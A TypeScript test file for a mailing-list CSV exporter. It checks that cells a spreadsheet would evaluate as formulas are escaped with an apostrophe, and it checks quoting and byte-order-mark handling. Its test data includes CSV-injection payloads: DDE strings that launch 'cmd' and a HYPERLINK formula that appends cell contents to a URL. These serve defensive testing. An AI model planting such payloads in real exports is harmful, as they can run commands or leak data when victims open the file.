import t from 'tap';
import {
  csvStart,
  formatCsvRow,
  neutralizeFormula,
} from '../../../src/mailings/lists/csv/write-csv.ts';

t.test('a cell that a spreadsheet would calculate gets an apostrophe', async (t) => {
  const formulas = [
    '=1+1',
    '=HYPERLINK("http://a.test/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    '-2+3+cmd|x',
    '@SUM(1)',
    '-A1',
    '+A1',
    '\t1',
    '\r1',
    '\n1',
    '＝1+1',
    '＠x',
    '-',
    '+',
    '-1e5',
    '@anna',
  ];
  for (const formula of formulas) t.equal(neutralizeFormula(formula), `'${formula}`);
  const texts = ['-5', '-1,234.50', '+49 30 123456', '+1 (555) 010-9999', 'a=1', '', '5-3', "'=1"];
  for (const text of texts) t.equal(neutralizeFormula(text), text);
});

t.test('a part of a cell that another separator makes a formula gets an apostrophe', async (t) => {
  const parts = [
    ["x;=cmd|'/C calc'!A0", "x;'=cmd|'/C calc'!A0"],
    ['x,@SUM(1)', "x,'@SUM(1)"],
    ['x\t+A1|-A1', "x\t'+A1|'-A1"],
    ['x\n=1', "x\n'=1"],
    ['\t=1', "'\t'=1"],
    ['x;"=1"', 'x;"\'=1"'],
    ['=A1;=B1', "'=A1;'=B1"],
  ] as const;
  for (const [cell, written] of parts) t.equal(neutralizeFormula(cell), written);
  const texts = ['Zoë, +47 22 33 44', '10;-5', '1,-2,+3', 'a;b=1', 'https://a.test/?a=1;b=-2'];
  for (const text of texts) t.equal(neutralizeFormula(text), text);
});

t.test('cells are quoted where the dialect needs it', async (t) => {
  const dialect = { separator: ';', quote: '"', newline: '\r\n' } as const;
  t.equal(
    formatCsvRow(['a,b', 'a;b', 'say "hi"', 'two\nlines', '=A1;B1', ' x '], dialect),
    'a,b;"a;b";"say ""hi""";"two\nlines";"\'=A1;B1"; x \r\n',
  );
  t.equal(formatCsvRow([''], dialect), '""\r\n');
  t.equal(formatCsvRow(['', ''], dialect), ';\r\n');
  t.equal(formatCsvRow(['sep=;'], dialect), '"sep=;"\r\n');
});

t.test('a list that was not plain UTF-8 is written with a byte order mark', async (t) => {
  t.equal(csvStart({ encoding: 'utf-8', hasBom: false }), '');
  t.equal(csvStart({ encoding: 'utf-8', hasBom: true }), '\uFEFF');
  t.equal(csvStart({ encoding: 'windows-1252', hasBom: false }), '\uFEFF');
});
